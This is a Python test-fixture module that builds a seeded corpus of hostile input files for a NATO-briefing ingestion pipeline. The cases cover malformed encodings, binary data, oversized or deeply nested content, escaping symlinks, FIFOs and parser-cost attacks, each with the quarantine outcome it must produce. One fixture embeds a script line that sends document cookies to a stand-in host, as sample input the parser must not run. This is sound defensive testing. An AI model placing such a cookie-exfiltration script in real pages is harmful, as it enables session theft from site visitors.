"""A raw folder of hostile inputs, generated in code (seeded, no committed binaries), with what each must become.

``build_hostile_corpus(root)`` writes the folder and returns ``{source_path: Expect}``.
``hostile_cases()`` gives the same table without touching the disk (for test parametrisation).

Every file has its own bytes, except the one intended duplicate pair, so ``doc_id`` (the
SHA-256 of the bytes) is unique per path. Symlinks that must point *outside* the raw root point
into a sibling folder ``<root>.outside`` that the builder creates next to ``root``.

The reason codes are the ones the pipeline emits: ``nato_briefs/ingest.py`` (discover / read_source /
decode_bytes), ``nato_briefs/parse.py`` (ParseLimitError) and ``nato_briefs/stage.py`` (duplicate). An Expect
with ``fixed_bug`` names the bug the case first exposed.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import os
import random
import shutil
import socket
import stat
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from bench.hostile_curve import adversarial_lines as bench_adversarial_lines
from nato_briefs.config import IngestLimits

PROJECT = Path(__file__).resolve().parents[1]
CONTROL_SOURCE = PROJECT / "raw" / "004_664f1cef579698de.txt"
CONTROL_TITLE = "NATO Deputy Secretary General Engages with U.S. Officials to Strengthen Transatlantic Ties"
CONTROL_FIRST_ROW_LINE = 11  # first body row of the first table in the control article

SEED = 20240704
# The corpus is read with these limits: small enough that `too_large` needs only a few MB on disk,
# large enough for every other case (the 5 MB line is rejected for its line, not its size).
HOSTILE_MAX_FILE_BYTES = 6 * 1024 * 1024
HOSTILE_LIMITS = IngestLimits(max_file_bytes=HOSTILE_MAX_FILE_BYTES)

WIDE_TABLE_COLUMNS = 5_000
DEEP_LIST_LEVELS = 500

OUTCOMES = ("ok", "quarantine", "ignored")
REASON_CODES = (
    "empty",
    "binary",
    "undecodable",
    "too_large",
    "unreadable",
    "symlink_outside_root",
    "not_regular_file",
    "line_too_long",
    "too_many_columns",
    "nesting_too_deep",
    "duplicate",
)
DETECTORS = ("discover", "read", "parse", "run")  # discover(), read_source(), parse_document(), nato_briefs/stage.py


@dataclass(frozen=True)
class Expect:
    """What one path of the hostile corpus must become."""

    source_path: str
    outcome: str  # ok | quarantine | ignored
    reason_code: str | None = None  # for quarantine
    encoding: str | None = None  # for files that decode (ok, and parse/run-level quarantine)
    note: str = ""
    detected_by: str | None = None  # discover | read | parse | run (None for ok / ignored)
    alt_encodings: tuple[str, ...] = ()  # other labels that are just as honest (same text)
    title: str | None = None  # documents.title after parsing, when checked
    first_row_line: int | None = None  # line of the first table body row, when checked
    text_contains: tuple[str, ...] = ()
    text_excludes: tuple[str, ...] = ()
    duplicate_of: str | None = None  # for duplicate: the path that is kept
    fixed_bug: str | None = None  # a bug this case once exposed (kept as the case's rationale)

    def __post_init__(self) -> None:
        assert self.outcome in OUTCOMES, self.outcome
        if self.outcome == "quarantine":
            assert self.reason_code in REASON_CODES and self.detected_by in DETECTORS, self
        else:
            assert self.reason_code is None and self.detected_by is None, self
        if self.outcome == "ok":
            assert self.encoding, self

    @property
    def accepted_encodings(self) -> tuple[str, ...]:
        return (self.encoding, *self.alt_encodings) if self.encoding else self.alt_encodings


Writer = Callable[[Path], None]  # receives the raw root


# --------------------------------------------------------------------------- content helpers


def control_text() -> str:
    return CONTROL_SOURCE.read_text(encoding="utf-8")


def article(tag: str) -> str:
    """A small, valid article whose bytes differ for every tag (one bare title, one table, one list)."""
    return (
        f"Allied Briefing {tag}\n"
        f"Ministers met to discuss the {tag} file and agreed on the next steps.\n"
        "| Priority Area | Key Focus | Expected Outcome |\n"
        "|---|---|---|\n"
        f"| Readiness | Exercises for {tag} | Stronger deterrence |\n"
        "- Joint exercises: more of them\n"
        "- Cyber defence: shared detection\n"
    )


def _write(rel: str, data: bytes) -> Writer:
    def write(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return write


def _write_lazy(rel: str, make: Callable[[], bytes]) -> Writer:
    def write(root: Path) -> None:
        _write(rel, make())(root)

    return write


def _symlink(rel: str, target: str | Callable[[Path], str], target_is_directory: bool = False) -> Writer:
    def write(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(root) if callable(target) else target, path, target_is_directory=target_is_directory)

    return write


def _fifo(rel: str) -> Writer:
    def write(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)

    return write


def _socket(rel: str) -> Writer:
    def write(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.bind(str(path))  # the socket file stays after close

    return write


def _non_utf8_name(folder: str, name: bytes, data: bytes) -> Writer:
    def write(root: Path) -> None:
        (root / folder).mkdir(parents=True, exist_ok=True)
        fd = os.open(os.fsencode(root / folder) + b"/" + name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)

    return write


def outside_dir(root: Path) -> Path:
    return root.parent / f"{root.name}.outside"


def _random_bytes(n: int) -> bytes:
    return random.Random(SEED).randbytes(n)


def _gzip_bytes() -> bytes:
    return gzip.compress(article("Gzipped").encode(), mtime=0)


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("article.txt", date_time=(2024, 7, 4, 0, 0, 0)), article("Zipped"))
    return buffer.getvalue()


def _with_nul() -> bytes:
    data = article("Nul Inside").encode()
    return data[: len(data) // 2] + b"\x00\x00" + data[len(data) // 2 :]


def _latin1_with_x81() -> bytes:
    line = "Les alliés de l'OTAN se réunissent à Bruxelles; naïveté, año, Größe et façade. "
    text = "Allied Briefing Latin\n" + line * 12 + "\n"
    data = text.encode("latin-1")
    return data[:200] + b"\x81" + data[200:]


def _cp1252_with_x81() -> bytes:
    line = "NATO’s allies “agree” on the plan – and the budget. "
    text = "Allied Briefing Windows\n" + line * 12 + "\n"
    data = text.encode("cp1252")
    return data[:150] + b"\x81" + data[150:]


def _utf8_with_stray_cp1252() -> bytes:
    line = "Les alliés de l’OTAN se réunissent à Bruxelles. "
    text = "Allied Briefing Mixed\n" + line * 10 + "\n"
    return text.encode("utf-8") + b"A stray \x92 byte from an old editor.\n"


def _five_mb_line() -> bytes:
    unit = b"defence "
    return unit * (5 * 1024 * 1024 // len(unit)) + b"\n"


def _long_line_by_unicode_separators() -> bytes:
    # 1.2 M characters that the parser reads as ONE line (it splits on CR/LF only, as CommonMark does);
    # str.splitlines() sees 120,000 short lines separated by U+2028 LINE SEPARATOR.
    return ("Allied line\u2028" * 120_000).encode("utf-8") + b"\n"


def _too_large() -> bytes:
    unit = b"Allies met again today and agreed on the plan.\n"
    data = unit * (HOSTILE_MAX_FILE_BYTES // len(unit) + 1)
    return data[: HOSTILE_MAX_FILE_BYTES + 1]


def wide_table(columns: int = WIDE_TABLE_COLUMNS) -> str:
    return (
        "Wide Table Briefing\n"
        "A table with far too many columns follows.\n"
        "| " + " | ".join(f"h{i}" for i in range(columns)) + " |\n"
        "|" + "---|" * columns + "\n"
        "| " + " | ".join(f"v{i}" for i in range(columns)) + " |\n"
    )


def deep_list(levels: int = DEEP_LIST_LEVELS) -> str:
    """A bullet list nested ``levels`` deep (each level indented under the previous item's content)."""
    return "Deep List Briefing\n\n" + "".join("  " * i + f"- level {i}\n" for i in range(levels))


# --------------------------------------------------------------------------- the cases


def _cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
    ok, quarantine, ignored = "ok", "quarantine", "ignored"

    # -- a good control article, and the same text in other encodings / line endings
    control = CONTROL_SOURCE.read_bytes
    yield (
        Expect(
            "control/004_664f1cef579698de.txt",
            ok,
            encoding="utf-8",
            title=CONTROL_TITLE,
            first_row_line=CONTROL_FIRST_ROW_LINE,
            note="copy of raw/004_664f1cef579698de.txt",
        ),
        _write_lazy("control/004_664f1cef579698de.txt", control),
    )
    yield (
        Expect(
            "encoding/utf8_bom.txt",
            ok,
            encoding="utf-8-sig",
            title=CONTROL_TITLE,
            first_row_line=CONTROL_FIRST_ROW_LINE,
            text_excludes=("\ufeff", "ï»¿"),
            note="control with a UTF-8 BOM: BOM dropped, title and line numbers unchanged",
        ),
        _write_lazy("encoding/utf8_bom.txt", lambda: b"\xef\xbb\xbf" + control()),
    )
    yield (
        Expect(
            "encoding/utf16_le_bom.txt",
            ok,
            encoding="utf-16",
            title=CONTROL_TITLE,
            first_row_line=CONTROL_FIRST_ROW_LINE,
            text_excludes=("\ufeff", "\x00"),
        ),
        _write_lazy("encoding/utf16_le_bom.txt", lambda: b"\xff\xfe" + control_text().encode("utf-16-le")),
    )
    yield (
        Expect(
            "encoding/utf16_be_bom.txt",
            ok,
            encoding="utf-16",
            title=CONTROL_TITLE,
            first_row_line=CONTROL_FIRST_ROW_LINE,
            text_excludes=("\ufeff", "\x00"),
        ),
        _write_lazy("encoding/utf16_be_bom.txt", lambda: b"\xfe\xff" + control_text().encode("utf-16-be")),
    )
    for rel, codec, data in (
        ("encoding/utf16_le_no_bom.txt", "utf-16-le", lambda: control_text().encode("utf-16-le")),
        ("encoding/utf16_be_no_bom.txt", "utf-16-be", lambda: control_text().encode("utf-16-be")),
        ("encoding/utf32_le_bom.txt", "utf-32", lambda: control_text().encode("utf-32")),
    ):
        yield (
            Expect(
                rel,
                ok,
                encoding=codec,
                title=CONTROL_TITLE,
                first_row_line=CONTROL_FIRST_ROW_LINE,
                text_excludes=("\ufeff", "\x00"),
                fixed_bug="valid UTF-8 / cp1252 byte for byte (NUL is a character): quarantined as 'binary' "
                "for its NUL characters, a text file lost under a misleading reason",
            ),
            _write_lazy(rel, data),
        )
    yield (
        Expect(
            "encoding/crlf_line_endings.txt",
            ok,
            encoding="utf-8",
            title=CONTROL_TITLE,
            first_row_line=CONTROL_FIRST_ROW_LINE,
            note="control with Windows line endings",
        ),
        _write_lazy("encoding/crlf_line_endings.txt", lambda: control_text().replace("\n", "\r\n").encode()),
    )
    yield (
        Expect(
            "encoding/cp1252_smart_quotes.txt",
            ok,
            encoding="cp1252",
            title="Allied Briefing Cp1252",
            text_contains=("NATO’s allies “agree” – today",),
            text_excludes=("\x92", "\x93", "\x94"),
        ),
        _write(
            "encoding/cp1252_smart_quotes.txt",
            article("Cp1252").encode() + b"NATO\x92s allies \x93agree\x94 \x96 today.\n",
        ),
    )
    yield (
        Expect(
            "encoding/latin1_with_x81.txt",
            ok,
            encoding="latin-1",
            alt_encodings=("cp1252",),
            title="Allied Briefing Latin",
            text_contains=("alliés", "Größe", "\x81"),
            note="cp1252 cannot decode 0x81; latin-1 (or cp1252 mapping its 5 undefined bytes like Windows) "
            "gives the same, right text: é/ö/ß kept, the stray byte kept as U+0081",
        ),
        _write_lazy("encoding/latin1_with_x81.txt", _latin1_with_x81),
    )
    yield (
        Expect(
            "encoding/cp1252_with_undefined_x81.txt",
            ok,
            encoding="cp1252",
            title="Allied Briefing Windows",
            text_contains=("NATO’s allies “agree” on the plan – and",),
            text_excludes=("\x92", "\x93"),
            fixed_bug="one byte cp1252 leaves undefined (0x81) sends the whole file to latin-1: smart quotes "
            "become C1 controls and the file is called 'binary' (or kept as mojibake)",
        ),
        _write_lazy("encoding/cp1252_with_undefined_x81.txt", _cp1252_with_x81),
    )
    yield (
        Expect(
            "encoding/utf8_bom_then_cp1252.txt",
            ok,
            encoding="cp1252",
            title="Allied Briefing Bom Windows",
            text_contains=("NATO’s allies",),
            text_excludes=("ï»¿", "\ufeff"),
            fixed_bug="a UTF-8 BOM followed by non-UTF-8 bytes is decoded BOM included: the text (and the "
            "title) starts with the mojibake 'ï»¿'",
        ),
        _write(
            "encoding/utf8_bom_then_cp1252.txt",
            b"\xef\xbb\xbf" + article("Bom Windows").encode() + b"NATO\x92s allies agree.\n",
        ),
    )
    yield (
        Expect(
            "encoding/utf8_with_stray_cp1252_byte.txt",
            ok,
            encoding="utf-8+cp1252",
            alt_encodings=("utf-8", "cp1252"),
            title="Allied Briefing Mixed",
            text_contains=("Les alliés de l’OTAN se réunissent à Bruxelles.", "A stray ’ byte"),
            text_excludes=("Ã", "â€"),
            fixed_bug="one stray cp1252 byte in a UTF-8 file makes the WHOLE file decode as cp1252: every "
            "accented letter silently becomes mojibake ('alliÃ©s', 'lâ€™OTAN')",
        ),
        _write_lazy("encoding/utf8_with_stray_cp1252_byte.txt", _utf8_with_stray_cp1252),
    )

    yield (
        Expect(
            "encoding/utf16_bom_odd_length.txt",
            quarantine,
            "undecodable",
            detected_by="read",
            note="a UTF-16 BOM, then an odd number of bytes: no honest way to read the last one",
        ),
        _write("encoding/utf16_bom_odd_length.txt", b"\xff\xfe" + article("Odd").encode("utf-16-le") + b"!"),
    )

    # -- binary content under a text name
    yield (
        Expect("binary/random.txt", quarantine, "binary", detected_by="read", note="64 KiB of seeded random bytes"),
        _write_lazy("binary/random.txt", lambda: _random_bytes(64 * 1024)),
    )
    yield (
        Expect("binary/nul_inside.txt", quarantine, "binary", detected_by="read", note="text with two NUL bytes"),
        _write_lazy("binary/nul_inside.txt", _with_nul),
    )
    yield (
        Expect("binary/gzip_renamed.txt", quarantine, "binary", detected_by="read"),
        _write_lazy("binary/gzip_renamed.txt", _gzip_bytes),
    )
    yield (
        Expect("binary/zip_renamed.txt", quarantine, "binary", detected_by="read"),
        _write_lazy("binary/zip_renamed.txt", _zip_bytes),
    )

    # -- nothing in it
    yield Expect("empty/empty.txt", quarantine, "empty", detected_by="read"), _write("empty/empty.txt", b"")
    yield (
        Expect("empty/whitespace_only.md", quarantine, "empty", detected_by="read"),
        _write("empty/whitespace_only.md", b"  \n\t\r\n   \n\n"),
    )
    yield (
        Expect(
            "empty/unicode_whitespace_only.txt",
            quarantine,
            "empty",
            detected_by="read",
            note="NO-BREAK SPACE and IDEOGRAPHIC SPACE only",
        ),
        _write("empty/unicode_whitespace_only.txt", "\u00a0 \u3000\n".encode()),
    )

    # -- limits
    if big:
        yield (
            Expect(
                "limits/five_mb_single_line.txt",
                quarantine,
                "line_too_long",
                detected_by="read",
                note="5 MiB in one line; under max_file_bytes, over max_line_chars (1,000,000)",
            ),
            _write_lazy("limits/five_mb_single_line.txt", _five_mb_line),
        )
        yield (
            Expect(
                "limits/long_line_split_by_u2028.txt",
                quarantine,
                "line_too_long",
                detected_by="read",
                fixed_bug="max_line_chars is measured with str.splitlines(), which also splits on U+2028, "
                "\\x0b, \\x0c, \\x1c-\\x1e and \\x85; the parser splits on CR/LF only, so this "
                "1.2 M-character line reaches the parser",
            ),
            _write_lazy("limits/long_line_split_by_u2028.txt", _long_line_by_unicode_separators),
        )
    yield (
        Expect(
            "limits/too_large.txt",
            quarantine,
            "too_large",
            detected_by="discover",
            note=f"max_file_bytes + 1 bytes of plain text, read with max_file_bytes={HOSTILE_MAX_FILE_BYTES:,}",
        ),
        _write_lazy("limits/too_large.txt", _too_large),
    )
    yield (
        Expect(
            "limits/wide_table_5000_columns.md",
            quarantine,
            "too_many_columns",
            detected_by="parse",
            encoding="utf-8",
            note="5,000 columns > ParseLimits.max_table_columns (1,000)",
        ),
        _write_lazy("limits/wide_table_5000_columns.md", lambda: wide_table().encode()),
    )
    yield (
        Expect(
            "limits/list_nested_500_deep.md",
            quarantine,
            "nesting_too_deep",
            detected_by="parse",
            encoding="utf-8",
            note="500 levels > ParseLimits.max_list_depth (100)",
            fixed_bug="parse_document raises RecursionError from inside markdown-it instead of "
            "ParseLimitError('nesting_too_deep'); only batch.py's `except RecursionError` saves the run",
        ),
        _write_lazy("limits/list_nested_500_deep.md", lambda: deep_list().encode()),
    )

    # -- links, FIFOs, sockets
    def outside_file(root: Path) -> str:
        target = outside_dir(root) / "secret.txt"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(article("Outside The Root"))
        return str(target)

    def outside_folder(root: Path) -> str:
        folder = outside_dir(root) / "folder"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "escaped.txt").write_text(article("Escaped Folder"))
        return str(folder)

    yield (
        Expect(
            "links/outside_absolute.txt",
            quarantine,
            "symlink_outside_root",
            detected_by="discover",
            note="absolute symlink to a file next to the raw root; not followed",
        ),
        _symlink("links/outside_absolute.txt", outside_file),
    )
    yield (
        Expect(
            "links/outside_relative.md",
            quarantine,
            "symlink_outside_root",
            detected_by="discover",
            note="relative ../../ symlink out of the root; not followed",
        ),
        _symlink("links/outside_relative.md", lambda root: os.path.relpath(outside_file(root), root / "links")),
    )
    if os.path.exists("/dev/zero"):
        yield (
            Expect(
                "links/dev_zero.txt",
                quarantine,
                "symlink_outside_root",
                detected_by="discover",
                note="an endless device; must never be opened",
            ),
            _symlink("links/dev_zero.txt", "/dev/zero"),
        )
    yield (
        Expect(
            "links/inside.md",
            ok,
            encoding="utf-8",
            title="Allied Briefing Linked",
            note="symlink to assets/link_target.dat inside the root: followed (the .dat target itself is "
            "not an input, so this is not a duplicate)",
        ),
        _symlink("links/inside.md", "../assets/link_target.dat"),
    )
    yield (
        Expect(
            "links/dangling.txt",
            quarantine,
            "unreadable",
            detected_by="discover",
            note="symlink to a missing file inside the root",
        ),
        _symlink("links/dangling.txt", "../no/such/file.txt"),
    )
    yield (
        Expect(
            "links/to_fifo.txt",
            quarantine,
            "not_regular_file",
            detected_by="discover",
            note="symlink inside the root to the FIFO special/x.txt",
        ),
        _symlink("links/to_fifo.txt", "../special/x.txt"),
    )
    yield (
        Expect("links/dir_outside", ignored, note="directory symlink out of the root: never walked"),
        _symlink("links/dir_outside", outside_folder, target_is_directory=True),
    )
    yield (
        Expect("links/evil_dir.md", ignored, note="a directory symlink named *.md pointing outside: never walked"),
        _symlink("links/evil_dir.md", outside_folder, target_is_directory=True),
    )
    yield (
        Expect("links/dir_inside", ignored, note="directory symlink inside the root: not walked (no loops, no dups)"),
        _symlink("links/dir_inside", "../nested", target_is_directory=True),
    )
    yield (
        Expect("links/loop_dir", ignored, note="directory symlink to the root itself: not walked"),
        _symlink("links/loop_dir", "..", target_is_directory=True),
    )
    yield (
        Expect(
            "special/x.txt",
            quarantine,
            "not_regular_file",
            detected_by="discover",
            note="a FIFO: opening it would block forever; must be rejected from stat(), never opened",
        ),
        _fifo("special/x.txt"),
    )
    yield (
        Expect("special/sock.md", quarantine, "not_regular_file", detected_by="discover", note="a unix socket"),
        _socket("special/sock.md"),
    )
    yield (
        Expect("folder.txt", ignored, note="a directory named *.txt: walked, never opened as a file"),
        _write("folder.txt/inside.md", article("Inside Folder").encode()),
    )
    yield Expect("folder.txt/inside.md", ok, encoding="utf-8", title="Allied Briefing Inside Folder"), _noop

    # -- names
    yield (
        Expect("names/with  spaces and tabs\t.txt", ok, encoding="utf-8", title="Allied Briefing Spaces"),
        _write("names/with  spaces and tabs\t.txt", article("Spaces").encode()),
    )
    yield (
        Expect("names/Ünïcødé 北约.txt", ok, encoding="utf-8", title="Allied Briefing Unicode"),
        _write("names/Ünïcødé 北约.txt", article("Unicode").encode()),
    )
    yield (
        Expect(
            "names/new\nline.txt",
            ok,
            encoding="utf-8",
            title="Allied Briefing Newline",
            note="a newline in the file name (skipped where the filesystem refuses it)",
        ),
        _write("names/new\nline.txt", article("Newline").encode()),
    )
    yield (
        Expect(
            "names/UPPER CASE.TXT",
            ok,
            encoding="utf-8",
            title="Allied Briefing Upper",
            note="the suffix is matched case-insensitively",
        ),
        _write("names/UPPER CASE.TXT", article("Upper").encode()),
    )
    yield (
        Expect(
            "names/caf\\xe9.txt",
            ok,
            encoding="utf-8",
            title="Allied Briefing Latin Name",
            note="file name bytes b'caf\\xe9.txt' are not UTF-8: source_path escapes them",
        ),
        _non_utf8_name("names", b"caf\xe9.txt", article("Latin Name").encode()),
    )
    yield (
        Expect("names/.hidden.txt", ignored, note="dot files are skipped by discover() (by design)"),
        _write("names/.hidden.txt", article("Hidden").encode()),
    )

    # -- layout
    yield (
        Expect("nested/level1/level2/deep_article.md", ok, encoding="utf-8", title="Allied Briefing Nested"),
        _write("nested/level1/level2/deep_article.md", article("Nested").encode()),
    )
    yield (
        Expect("ignored/notes.csv", ignored, note="not *.txt / *.md"),
        _write("ignored/notes.csv", b"area,focus\ncyber,defence\n"),
    )
    yield (
        Expect("ignored/article.txt.gz", ignored, note="not *.txt / *.md (the suffix is the last one)"),
        _write_lazy("ignored/article.txt.gz", _gzip_bytes),
    )
    yield (
        Expect("assets/link_target.dat", ignored, note="not an input itself; read through links/inside.md"),
        _write("assets/link_target.dat", article("Linked").encode()),
    )
    yield (
        Expect("dup/original.txt", ok, encoding="utf-8", title="Allied Briefing Duplicate"),
        _write("dup/original.txt", article("Duplicate").encode()),
    )
    yield (
        Expect(
            "dup/zz_copy.txt",
            quarantine,
            "duplicate",
            detected_by="run",
            encoding="utf-8",
            duplicate_of="dup/original.txt",
            note="same bytes as dup/original.txt: ingest reads both (same doc_id); nato_briefs/stage.py "
            "finalize_duplicates keeps the first path and quarantines this one as 'duplicate'",
        ),
        _write("dup/zz_copy.txt", article("Duplicate").encode()),
    )
    yield from _reader_cases(big)


def _noop(root: Path) -> None:
    """The file is written by another case's writer."""


def hostile_cases(big: bool = True) -> dict[str, Expect]:
    """The expectation table, without writing anything."""
    cases: dict[str, Expect] = {}
    for expect, _ in _cases(big):
        assert expect.source_path not in cases, expect.source_path
        cases[expect.source_path] = expect
    return cases


def build_hostile_corpus(root: Path, big: bool = True) -> dict[str, Expect]:
    """Write the hostile raw folder under ``root``; return {source_path: Expect} for what was created.

    Cases the filesystem or platform refuses (a newline or non-UTF-8 bytes in a name, FIFOs,
    sockets, symlinks) are left out of the returned table rather than faked.
    """
    root.mkdir(parents=True, exist_ok=True)
    if outside_dir(root).exists():
        shutil.rmtree(outside_dir(root))
    created: dict[str, Expect] = {}
    for expect, write in _cases(big):
        try:
            write(root)
        except (OSError, ValueError, NotImplementedError, AttributeError):
            continue  # AttributeError: os.mkfifo / socket.AF_UNIX missing on this platform
        created[expect.source_path] = expect
    if "folder.txt" not in created:
        created.pop("folder.txt/inside.md", None)
    if not _is_fifo(root / "special/x.txt"):
        created.pop("links/to_fifo.txt", None)
    return created


def _is_fifo(path: Path) -> bool:
    try:
        return stat.S_ISFIFO(path.lstat().st_mode)
    except OSError:
        return False


# --------------------------------------------------------------------------- reader cases (issues 12 and 14)

ADVERSARIAL_BLANKS = 32_768  # the 32 KB line of issue 14


def adversarial_lines(k: int = ADVERSARIAL_BLANKS) -> dict[str, str]:
    """The reader's adversarial lines, from the benchmark that draws their cost curve (one list)."""
    return bench_adversarial_lines(k)


def _adversarial_article(name: str, line: str) -> bytes:
    title = f"Adversarial {name.replace('_', ' ').title()} Briefing"
    return f"{title}\n| a | b |\n|---|---|\n| 1 | 2 |\n{line}\n- closing item\n".encode()


def _nested_html_lists(levels: int = 10_000) -> bytes:
    return ("Deep Html Briefing\n\n" + "<ul><li>level\n" * levels).encode()


def _big_html_block() -> bytes:
    rows = "".join(f"<tr><td>Row {i}</td><td>Allied readiness &amp; deterrence</td></tr>\n" for i in range(18_000))
    return f"Big Html Briefing\n<table>\n<tr><th>Area</th><th>Focus</th></tr>\n{rows}</table>\n".encode()


def _reader_cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
    ok, quarantine = "ok", "quarantine"
    for name, line in adversarial_lines().items():
        path = f"reader/adversarial_{name}.md"
        if name == "nested_markers":
            yield (
                Expect(
                    path,
                    quarantine,
                    "nesting_too_deep",
                    detected_by="parse",
                    encoding="utf-8",
                    note="16,384 list markers on one line: refused before markdown-it nests them (quadratic)",
                ),
                _write(path, _adversarial_article(name, line)),
            )
            continue
        yield (
            Expect(
                path,
                ok,
                encoding="utf-8",
                title=f"Adversarial {name.replace('_', ' ').title()} Briefing",
                first_row_line=4,
                note="a 32 KB line aimed at one reader rule: parsed in linear time",
                fixed_bug="_DELIMITER_ROW backtracked O(k^2) on a long blank run ending in '-x': 38 s for 32 KB"
                if name == "delimiter_row"
                else None,
            ),
            _write(path, _adversarial_article(name, line)),
        )
    yield (
        Expect(
            "reader/html_unterminated_table.md",
            ok,
            encoding="utf-8",
            title="Unterminated Table Briefing",
            first_row_line=4,
            note="<table> never closed: read up to the blank line, markdown resumes after it",
        ),
        _write(
            "reader/html_unterminated_table.md",
            b"Unterminated Table Briefing\n<table>\n<tr><th>Area</th></tr>\n<tr><td>Cyber</td></tr>\n\nAfter.\n",
        ),
    )
    yield (
        Expect(
            "reader/html_nested_10000_ul.md",
            quarantine,
            "nesting_too_deep",
            detected_by="parse",
            encoding="utf-8",
            note="10,000 nested <ul>: beyond libxml2's depth bound and max_list_depth",
        ),
        _write_lazy("reader/html_nested_10000_ul.md", _nested_html_lists),
    )
    yield (
        Expect(
            "reader/brackets_unclosed_2000.md",
            ok,
            encoding="utf-8",
            title="Bracket Briefing",
            note="2,000 unclosed '[' in one paragraph: text, read in linear time",
            fixed_bug="markdown-it followed 1,000 nested link labels: 330 '[' raised RecursionError (quarantined "
            "as nesting_too_deep, the text lost), 300 per paragraph cost 70 ms each",
        ),
        _write("reader/brackets_unclosed_2000.md", ("Bracket Briefing\n\n" + "[" * 2_000 + "\nAllies met.\n").encode()),
    )
    yield (
        Expect(
            "reader/html_script.md",
            ok,
            encoding="utf-8",
            title="Script Briefing",
            text_contains=("<script>",),
            note="<script> content is dropped, never executed",
        ),
        _write(
            "reader/html_script.md",
            b"Script Briefing\n<script>\nfetch('http://x/'+document.cookie)\n- not an item\n</script>\n"
            b"<p>Allies met.<script>alert(1)</script></p>\n",
        ),
    )
    if big:
        yield (
            Expect(
                "reader/html_one_megabyte_block.md",
                ok,
                encoding="utf-8",
                title="Big Html Briefing",
                first_row_line=4,
                note="one 1 MB HTML block (18,000 table rows), read whole",
            ),
            _write_lazy("reader/html_one_megabyte_block.md", _big_html_block),
        )


# --------------------------------------------------------------------------- the per-document budget (issue 14)
# Appended: the budget cases follow the cases above (``_cases`` is extended, not edited).

REASON_CODES = (*REASON_CODES, "too_many_cells", "too_costly")
WIDE_TALL_COLUMNS, WIDE_TALL_ROWS = 1_000, 2_000  # issue 14: 4 MB, 2.25 GB peak before the budget


def wide_tall_table(columns: int = WIDE_TALL_COLUMNS, rows: int = WIDE_TALL_ROWS) -> str:
    """A table of ``columns`` x ``rows`` one-character cells (1,000 x 2,000: 4 MB)."""
    row = "|x" * columns + "|\n"
    return "Wide Tall Table\n\n" + "|h" * columns + "|\n" + "|-" * columns + "|\n" + row * rows


def _tables(n_tables: int, columns: int, rows: int) -> str:
    return "Many Tables\n\n" + "\n".join(wide_tall_table(columns, rows).split("\n", 2)[2] for _ in range(n_tables))


def _budget_cases(big: bool) -> Iterator[tuple[Expect, Writer]]:
    quarantine = "quarantine"
    if big:
        yield (
            Expect(
                "limits/table_1000x2000.md",
                quarantine,
                "too_many_cells",
                detected_by="read",
                note="2 M cells (4 MB) > IngestLimits.max_table_cells; found by a pre-scan, never tokenized",
                fixed_bug="markdown-it built ~6 M tokens for it: 2.25 GB peak RSS in one worker",
            ),
            _write_lazy("limits/table_1000x2000.md", lambda: wide_tall_table().encode()),
        )
    yield (
        Expect(
            "limits/table_300x200.md",
            quarantine,
            "too_many_cells",
            detected_by="read",
            note="60,000 cells > max_table_cells (50,000), each row within max_table_columns",
        ),
        _write_lazy("limits/table_300x200.md", lambda: wide_tall_table(300, 200).encode()),
    )
    yield (
        Expect(
            "limits/tables_3x40000_cells.md",
            quarantine,
            "too_many_cells",
            detected_by="read",
            note="three tables of ~40,000 cells: each within max_table_cells, 120,000 > max_document_cells",
        ),
        _write_lazy("limits/tables_3x40000_cells.md", lambda: _tables(3, 200, 200).encode()),
    )
    yield (
        Expect(
            "limits/list_100000_items.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="100,000 one-letter list items: ~600,000 tokens > max_parse_tokens (500,000) in 400 kB",
        ),
        _write_lazy("limits/list_100000_items.md", lambda: ("Long List\n\n" + "- a\n" * 100_000).encode()),
    )
    yield (
        Expect(
            "limits/bullets_100000_glyph_items.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="100,000 plain-text '• a' items (600 kB): the reader makes each a list item, ~6 tokens",
            fixed_bug="the budget counted a line not led by -, +, * or a digit as one token: 480,000 such "
            "lines (2.9 MB) passed it and took 1.1 GB peak RSS and 35 s to parse",
        ),
        _write_lazy("limits/bullets_100000_glyph_items.md", lambda: ("Glyph List\n\n" + "• a\n" * 100_000).encode()),
    )
    yield (
        Expect(
            "limits/word_o_bullets_90000.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="90,000 Word 'o<tab>x' items (360 kB): session 7 reads them as list items, so the budget "
            "counts ~6 tokens each (540,000); at a block's 3 it would pass and take ~9 CPU s to parse",
        ),
        _write_lazy("limits/word_o_bullets_90000.md", lambda: ("Word List\n\n" + "o\tx\n" * 90_000).encode()),
    )
    yield (
        Expect(
            "limits/entity_bullets_90000.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="90,000 '&bull; x' items (810 kB), read as bullets since session 7: over max_parse_tokens",
        ),
        _write_lazy("limits/entity_bullets_90000.md", lambda: ("Entity List\n\n" + "&bull; x\n" * 90_000).encode()),
    )
    yield (
        Expect(
            "limits/quotes_1000_deep.md",
            quarantine,
            "too_costly",
            detected_by="read",
            note="lines inside 1,000 nested block quotes: characters x depth > max_nesting_work",
        ),
        _write_lazy("limits/quotes_1000_deep.md", lambda: _deep_quotes().encode()),
    )


def _deep_quotes() -> str:
    return "Deep Quotes\n\n" + (">" * 1000 + " x" * 500 + "\n") * 120


_base_cases = _cases


def _cases(big: bool = True) -> Iterator[tuple[Expect, Writer]]:  # extended: the cases above, then the budget's
    yield from _base_cases(big)
    yield from _budget_cases(big)


# --------------------------------------------------------------------------- session 9 sweep
